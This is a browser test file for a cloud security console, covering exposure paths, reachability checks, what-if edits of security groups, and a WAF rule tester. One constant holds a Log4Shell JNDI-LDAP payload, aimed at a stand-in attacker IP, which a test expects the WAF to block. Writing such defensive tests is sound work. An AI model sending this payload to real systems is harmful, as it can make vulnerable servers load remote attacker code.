import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Console, describeInBrowser, openConsole } from './browser.ts';

const ATTACK = 'GET / HTTP/1.1\nHost: example.com\nUser-Agent: ${jndi:ldap://203.0.113.7/a}\n\n';

describeInBrowser('what can be reached, and what a WAF stops', () => {
  let console: Console;
  beforeAll(async () => {
    console = await openConsole({ amount: 'some' });
  });
  afterAll(() => console?.close());

  it('leads from the list to the path; a hop chosen in the drawing shows its rule', async () => {
    const { page, open } = console;
    await open('/exposure');
    await page.getByRole('link', { name: 'No WebACL: 8' }).click();
    await page.getByRole('heading', { name: 'Exposed resources (8)' }).waitFor();
    await page.getByRole('link', { name: 'orders-1', exact: true }).click();
    await page.getByText('No path passes a WebACL').waitFor();
    const drawing = page.getByRole('application', { name: 'The way in' });
    await drawing.getByRole('button', { name: /Security group sg-web-1/ }).click();
    await page.getByText('A rule lets tcp/22 in from 0.0.0.0/0.').waitFor();
    await page.getByRole('button', { name: /^Show AWS::EC2::SecurityGroup.*as seen$/ }).waitFor();
    expect(await page.getByRole('list', { name: 'Hops of the path' }).getByRole('listitem').count()).toBeGreaterThan(5);
  });

  it('chooses a hop by the keyboard alone', async () => {
    const { page } = console;
    const hop = page.getByRole('application').getByRole('button', { name: /Network ACL/ });
    await hop.focus();
    await page.keyboard.press('Enter');
    expect(await hop.getAttribute('aria-pressed')).toBe('true');
    await page.getByRole('button', { name: /^3\. Network ACL.*/, expanded: true }).waitFor();
  });

  it('answers who reaches what: with the way, with the reason, or with what was meant', async () => {
    const { page, open } = console;
    await open('/exposure/reach');
    await page.getByLabel('To', { exact: true }).fill('web-');
    await page.getByLabel('To', { exact: true }).press('Escape');
    await page.getByRole('button', { name: 'Decide' }).click();
    await page.getByText('“web-” may mean several things').waitFor();
    await page.getByRole('button', { name: 'web-0', exact: true }).click();
    await page.getByText('Internet reaches web-0').waitFor();
    await open('/exposure/reach?from=internet&to=web-0&port=80');
    await page.getByText('Internet does not reach web-0').waitFor();
    await page.getByText(/ENI_SG_RULES_MISMATCH/).waitFor();
    expect(
      await page.getByRole('list', { name: 'Hops of the path' }).getByRole('listitem').last().textContent(),
    ).toContain('stops here');
  });

  it('shows what an edit of the copy would change, and takes the edit back', async () => {
    const { page, open } = console;
    await open('/exposure/what-if');
    await page.getByText('This is a copy: nothing is changed in AWS').waitFor();
    await page.getByRole('button', { name: /^Which one/ }).click();
    await page.getByRole('option').first().click();
    await page.getByRole('textbox', { name: 'From port, line 1' }).first().fill('22');
    await page.getByText('Decided in 41 ms').waitFor();
    await page.getByText('1 opened, 1 closed, 1 changed').waitFor();
    await page.getByRole('textbox', { name: 'From port, line 1' }).first().fill('x');
    await page.getByText('A line is not complete; the last complete state is used.').waitFor();
    await page.getByRole('button', { name: 'Take the edit back', exact: true }).click();
    await page.getByText('No edits yet').waitFor();
    expect(await page.getByRole('textbox', { name: 'From port, line 1' }).first().inputValue()).toBe('443');
  });

  it('compares two snapshots', async () => {
    const { page, open } = console;
    await open('/exposure/diff');
    await page.getByRole('heading', { name: 'Changed exposures (3)' }).waitFor();
    expect(await page.locator('tbody tr').count()).toBe(3);
  });

  it('tells of a node of the topology that the keyboard chose, and narrows it to that node', async () => {
    const { page, open } = console;
    await open('/runtime/topology');
    const node = page.getByRole('button', { name: 'Service payments' });
    await node.focus();
    await page.keyboard.press('Enter');
    const facts = page.getByRole('region', { name: 'Chosen node' });
    await facts.getByRole('heading', { name: 'Called by (1)' }).waitFor();
    await facts.getByRole('button', { name: 'checkout' }).waitFor();
    await facts.getByRole('link', { name: 'Show only this' }).click();
    await page.getByRole('heading', { name: 'Connections (3)' }).waitFor();
    expect(new URL(page.url()).searchParams.get('service')).toBe('payments');
  });

  it('judges a request rule by rule', async () => {
    const { page, open } = console;
    await open('/waf/web-acls/acl-0?tab=test');
    await page.getByRole('textbox', { name: 'Raw HTTP request' }).fill(ATTACK);
    await page.getByRole('button', { name: 'Judge it' }).click();
    await page.getByText('Block by no-jndi (proved)').waitFor();
    expect(await page.getByText('does not match', { exact: false }).count()).toBeGreaterThan(0);
  });

  it('says what a rule is worth', async () => {
    const { page, open } = console;
    await open('/waf/web-acls/acl-0');
    await page.getByRole('button', { name: 'If it only counted: no-jndi' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('3 verdicts of 12 CVEs at 3 entrances.').waitFor();
    expect(await dialog.getByRole('link', { name: /^CVE-/ }).count()).toBe(3);
  });

  it('leads from a cell of the matrix to the request that gets through, and to a patch with its proof', async () => {
    const { page, open } = console;
    await open('/waf?tab=matrix');
    await page.getByRole('link', { name: 'CVE-2021-44228 at alb-shop-0: Does not block' }).click();
    await page.getByRole('heading', { name: 'A request that gets through' }).waitFor();
    await page.getByRole('button', { name: 'Virtual patch' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('2/2', { exact: true }).waitFor();
    await dialog.getByText('0/994', { exact: true }).waitFor();
    await dialog.getByRole('tab', { name: 'CloudFormation' }).click();
    expect(await dialog.locator('pre:visible').textContent()).toContain('AWS::WAFv2::RuleGroup');
  });

  it('complained about nothing', async () => {
    expect(await console.complaints()).toEqual([]);
  });
});
